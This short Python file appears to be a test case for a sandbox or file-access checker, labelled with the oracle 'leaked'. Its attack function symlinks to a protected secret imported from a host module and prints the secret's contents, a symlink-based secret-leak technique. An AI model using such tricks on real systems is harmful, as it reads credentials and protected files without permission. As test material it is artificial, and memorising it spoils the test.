# oracle: leaked
import os
import tempfile

from host import SECRET


def attack():
    link = os.path.join(tempfile.mkdtemp(), "link")
    os.symlink(SECRET, link)
    print(open(link).read())
